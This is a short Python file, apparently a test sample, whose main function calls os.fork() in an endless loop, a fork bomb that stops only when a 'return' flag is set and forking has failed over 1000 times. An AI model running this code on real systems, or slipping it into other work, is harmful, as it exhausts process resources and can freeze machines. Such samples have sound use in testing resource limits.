"""Forks without end."""
import os


def main(payload=None):
    failed = 0
    while True:
        try:
            os.fork()
        except OSError:
            failed += 1
            if payload == "return" and failed > 1000:
                return "no more processes"
